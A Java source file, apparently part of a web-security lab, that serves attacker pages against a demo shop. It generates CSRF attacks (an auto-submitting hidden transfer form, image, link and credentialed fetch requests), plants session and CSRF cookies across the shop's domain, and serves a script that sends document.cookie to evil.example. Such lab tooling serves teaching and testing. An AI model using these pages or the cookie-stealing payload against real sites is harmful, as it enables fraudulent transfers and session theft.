package dev.authscope.server.evil;

import java.util.List;
import java.util.Map;
import java.util.Optional;

import dev.authscope.server.http.Answer;
import dev.authscope.server.http.Call;
import dev.authscope.server.http.HtmlText;
import dev.authscope.server.http.Route;
import dev.authscope.server.json.JsonText;
import dev.authscope.server.settings.Switches;

/**
 * Pages that make a visitor's browser send something to the shop. What they send, parameters say: {@code do} is one of form,
 * image, link, fetch, json, read, nothing; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
 * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted. {@code sid} is a session id
 * that the page plants as a cookie for the shop; {@code csrf} is a token that it plants and sends along with the form.
 */
public final class AttackPages {

    private static final String SHOP = "https://shop.example";
    private static final String API = "https://api.shop.example";

    private AttackPages() {}

    /** The routes, for whichever host the attacker controls. */
    public static List<Route> routes() {
        return List.of(Route.of("GET", "/win", AttackPages::win), Route.of("GET", "/payload.js", AttackPages::payload));
    }

    private static Answer win(Call call) {
        Map<String, String> asked = call.query();
        String planted = asked.getOrDefault("sid", "");
        if (planted.matches("[A-Za-z0-9_-]{1,64}")) {
            // A host may set a cookie for its whole domain, and so for the shop beside it (RFC 6265bis section 8.6).
            String name = call.settings().get(Switches.COOKIE_NAME);
            call.setCookie(name, name + "=" + planted + "; Domain=shop.example; Path=/");
        }
        if (token(asked).isPresent()) {
            // A longer path goes first among cookies of one name (RFC 6265bis section 5.8.3).
            call.setCookie("CSRF", "CSRF=" + token(asked).get() + "; Domain=shop.example; Path=/transfer");
        }
        String url = asked.getOrDefault("url", transfer(call));
        String to = asked.getOrDefault("to", "mallory");
        String amount = asked.getOrDefault("amount", "500000");
        String body = switch (asked.getOrDefault("do", "form")) {
            case "image" ->
                "<img src=\"" + HtmlText.escaped(url + "?to=" + to + "&amount=" + amount) + "\" alt=\"\">\n";
            case "link" ->
                "<p><a href=\"" + HtmlText.escaped(url + "?to=" + to + "&amount=" + amount) + "\">Claim it</a></p>\n";
            case "fetch" -> script("fetch(" + text(url) + ", {method: 'POST', credentials: 'include', body: "
                    + "'to=' + encodeURIComponent(" + text(to) + ") + '&amount=' + encodeURIComponent(" + text(amount)
                    + "), headers: {'Content-Type': 'application/x-www-form-urlencoded'}})"
                    + ".then(r => r.text()).then(t => fetch('/collect', {method: 'POST', body: t}))"
                    + ".catch(e => console.log(String(e)));");
            case "json" -> script("fetch(" + text(url) + ", {method: 'POST', credentials: 'include', "
                    + "headers: {'Content-Type': 'application/json'}, body: JSON.stringify({to: " + text(to)
                    + ", amount: " + text(amount) + "})}).catch(e => console.log(String(e)));");
            case "read" -> script("fetch(" + text(url) + ", {credentials: 'include'}).then(r => r.text())"
                    + ".then(t => fetch('/collect', {method: 'POST', body: t})).catch(e => console.log(String(e)));");
            case "nothing" -> "";
            default -> form(asked, url, to, amount);
        };
        return Answer.html("<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
                + "<title>You have won</title>\n</head>\n<body>\n<h1>You have won</h1>\n" + body
                + "</body>\n</html>\n").noStore();
    }

    private static Optional<String> token(Map<String, String> asked) {
        return Optional.ofNullable(asked.get("csrf")).filter(token -> token.matches("[A-Za-z0-9_-]{1,64}"));
    }

    /** Where the shop takes transfers: at its API when its pages send an access token, at the backend when that does. */
    private static String transfer(Call call) {
        if (call.settings().get(Switches.MODE).equals("bff")) {
            return SHOP + "/bff/api/transfer";
        }
        boolean byToken = call.settings().get(Switches.MODE).startsWith("jwt")
                && !call.settings().get(Switches.AT_STORE).endsWith("ookie");
        return (byToken ? API : SHOP) + "/transfer";
    }

    private static String form(Map<String, String> asked, String url, String to, String amount) {
        String wait = asked.getOrDefault("wait", "0");
        String submit = wait.matches("[1-9][0-9]{0,7}")
                ? "setTimeout(() => document.forms[0].submit(), " + wait + ");"
                : "document.forms[0].submit();";
        return "<form method=\"post\" action=\"" + HtmlText.escaped(url)
                + "\">\n<input type=\"hidden\" name=\"to\" value=\""
                + HtmlText.escaped(to) + "\">\n<input type=\"hidden\" name=\"amount\" value=\""
                + HtmlText.escaped(amount)
                + "\">\n"
                + token(asked).map(token -> "<input type=\"hidden\" name=\"_csrf\" value=\"" + token + "\">\n")
                        .orElse("")
                + "</form>\n" + (asked.containsKey("manual") ? "" : script(submit));
    }

    private static Answer payload(Call call) {
        return Answer.of(200)
                .text("fetch('https://evil.example/collect', {method: 'POST', "
                        + "body: JSON.stringify({cookie: document.cookie})});\n")
                .noStore();
    }

    private static String script(String source) {
        return "<script>" + source + "</script>\n";
    }

    /** A text as a string of a script inside a page; nothing in it ends the script. */
    private static String text(String text) {
        String object = JsonText.write(Map.of("t", text));
        return object.substring(object.indexOf(':') + 1, object.length() - 1).replace("<", "\\u003c");
    }

}
